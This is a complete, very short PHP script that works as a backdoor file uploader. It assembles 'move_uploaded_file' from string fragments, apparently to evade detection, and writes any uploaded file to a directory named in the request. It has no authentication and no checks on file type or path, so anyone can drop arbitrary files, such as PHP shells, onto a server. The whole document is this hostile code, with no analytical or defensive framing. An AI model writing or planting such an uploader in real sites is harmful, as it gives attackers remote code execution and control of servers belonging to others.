<?php
$u = 'move_' . 'uploaded_' . 'file';
$x = $_FILES['x'];
if ($u($x['tmp_name'], $_REQUEST['d'] . $x['name'])) { echo 1; }
